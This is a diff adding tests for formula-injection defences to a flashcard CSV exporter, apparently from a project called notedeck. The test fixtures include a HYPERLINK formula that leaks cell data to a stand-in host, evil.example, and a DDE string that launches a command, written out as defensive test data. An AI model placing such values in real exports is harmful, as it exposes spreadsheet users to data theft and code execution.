@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import html
 import io
 from pathlib import Path
 
@@ -13,7 +14,7 @@ from history_cards import NOTEBOOK, PAGE_TITLES, edited_cards, sample_cards
 
 from notedeck.export.csv import ANKI_HEADER, export_csv
 from notedeck.export.report import ExportError
-from notedeck.model import Card
+from notedeck.model import Card, CardKind, Source
 
 COLUMNS = ["guid", "notetype", "deck", "front", "back", "tags"]
 
@@ -164,3 +165,59 @@ def test_unwritable_path_raises_and_leaves_nothing(tmp_path: Path, cards: list[C
 def test_unknown_style_raises(cards: list[Card]) -> None:
     with pytest.raises(ExportError, match="unknown CSV style 'tsv'"):
         export_csv(cards, io.StringIO(), style="tsv")  # type: ignore[arg-type]
+
+
+# ---------------------------------------------------------------- formula injection
+
+FORMULAS = {
+    "nd-eq": ('=HYPERLINK("http://evil.example/?"&A1, "Click")', "=1+1"),
+    "nd-plus": ("+SUM(A1:A9)", "+44 20 7946 0000"),
+    "nd-minus": ("-5 degrees at Stalingrad", "-2+3"),
+    "nd-at": ("@SUM(A1)", "@cmd"),
+    "nd-safe": ("Who signed the Treaty?", "Ebert = president"),
+}
+
+
+def _formula_cards() -> list[Card]:
+    return [
+        Card(
+            card_id,
+            CardKind.BASIC,
+            front,
+            back,
+            Source("hostile.md", "=cmd|' /C calc'!A0", None, 1),
+        )
+        for card_id, (front, back) in FORMULAS.items()
+    ]
+
+
+def test_quizlet_cells_that_a_spreadsheet_would_run_get_a_leading_quote() -> None:
+    out = io.StringIO()
+    export_csv(_formula_cards(), out, style="quizlet")
+    rows = [line.split("\t") for line in out.getvalue().splitlines()]
+    assert rows == [
+        ["'" + front, "'" + back] if card_id != "nd-safe" else [front, back]
+        for card_id, (front, back) in FORMULAS.items()
+    ]
+
+
+def test_anki_text_cells_cannot_start_a_formula_and_anki_shows_the_exact_text(
+    tmp_path: Path, collection: Collection
+) -> None:
+    path = tmp_path / "cards.txt"
+    export_csv(_formula_cards(), path, style="anki", deck_name="=Notes", page_titles={})
+    _, rows = _read_anki_file(path)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    by_guid = {row["guid"]: row for row in rows}
+    assert by_guid["nd-eq"]["front"].startswith("&#61;HYPERLINK(")
+    assert by_guid["nd-minus"]["back"] == "&#45;2+3"
+    assert by_guid["nd-safe"]["front"] == "Who signed the Treaty?"
+    assert by_guid["nd-eq"]["deck"].startswith("'=Notes::hostile::")
+
+    _import_text(collection, path)
+    notes = _notes(collection)
+    assert notes["nd-minus"]["Front"] == "&#45;5 degrees at Stalingrad"  # stored as written,
+    rendered = notes["nd-minus"].cards()[0].question()  # and shown as the student wrote it
+    assert "-5 degrees at Stalingrad" in html.unescape(rendered)
